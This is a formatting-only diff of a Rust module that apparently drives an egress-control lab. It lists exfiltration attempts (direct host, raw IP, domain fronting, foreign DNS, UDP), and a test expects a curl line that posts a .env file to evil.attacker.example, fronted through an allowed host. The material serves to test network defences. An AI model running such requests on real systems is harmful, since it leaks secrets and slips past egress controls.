@@ -30,14 +30,8 @@ pub enum Attempt {
 }
 
 /// All of them.
-pub const ATTEMPTS: [Attempt; 6] = [
-    Attempt::Allowed,
-    Attempt::ByName,
-    Attempt::ByAddress,
-    Attempt::Fronted,
-    Attempt::Resolver,
-    Attempt::Datagram,
-];
+pub const ATTEMPTS: [Attempt; 6] =
+    [Attempt::Allowed, Attempt::ByName, Attempt::ByAddress, Attempt::Fronted, Attempt::Resolver, Attempt::Datagram];
 
 /// An HTTP request.
 #[derive(Clone, Copy, Debug, PartialEq, Eq)]
@@ -66,29 +60,13 @@ pub enum Act {
 impl Attempt {
     /// What it does.
     pub fn act(self) -> Act {
-        let plain = Fetch {
-            tls: true,
-            host: ATTACKERS,
-            door: None,
-            secret: true,
-        };
+        let plain = Fetch { tls: true, host: ATTACKERS, door: None, secret: true };
         match self {
-            Attempt::Allowed => Act::Fetch(Fetch {
-                host: ALLOWED,
-                secret: false,
-                ..plain
-            }),
+            Attempt::Allowed => Act::Fetch(Fetch { host: ALLOWED, secret: false, ..plain }),
             Attempt::ByName => Act::Fetch(plain),
             // The attacker's own address, as text.
-            Attempt::ByAddress => Act::Fetch(Fetch {
-                tls: false,
-                host: "11.6.6.6",
-                ..plain
-            }),
-            Attempt::Fronted => Act::Fetch(Fetch {
-                door: Some(ALLOWED),
-                ..plain
-            }),
+            Attempt::ByAddress => Act::Fetch(Fetch { tls: false, host: "11.6.6.6", ..plain }),
+            Attempt::Fronted => Act::Fetch(Fetch { door: Some(ALLOWED), ..plain }),
             Attempt::Resolver => Act::Ask(SocketAddr::new(IpAddr::V4(FOREIGN_DNS), 53)),
             Attempt::Datagram => Act::Send(SocketAddr::new(IpAddr::V4(ATTACKER), 443)),
         }
@@ -120,10 +98,7 @@ impl Fetch {
         }
         if let Some(door) = self.door {
             let port = self.port();
-            arguments.extend([
-                "--connect-to".to_owned(),
-                format!("{}:{port}:{door}:{port}", self.host),
-            ]);
+            arguments.extend(["--connect-to".to_owned(), format!("{}:{port}:{door}:{port}", self.host)]);
         }
         arguments.push(self.url());
         arguments
@@ -151,17 +126,13 @@ mod tests {
 
     #[test]
     fn the_attackers_address_is_the_labs() {
-        let Act::Fetch(fetch) = Attempt::ByAddress.act() else {
-            panic!("a request")
-        };
+        let Act::Fetch(fetch) = Attempt::ByAddress.act() else { panic!("a request") };
         assert_eq!(fetch.host, ATTACKER.to_string());
     }
 
     #[test]
     fn curl_is_given_what_a_person_would_type() {
-        let Act::Fetch(fetch) = Attempt::Fronted.act() else {
-            panic!("a request")
-        };
+        let Act::Fetch(fetch) = Attempt::Fronted.act() else { panic!("a request") };
         assert_eq!(
             fetch.curl().join(" "),
             "-d @.env --connect-to evil.attacker.example:443:api.allowed.example:443 https://evil.attacker.example/"
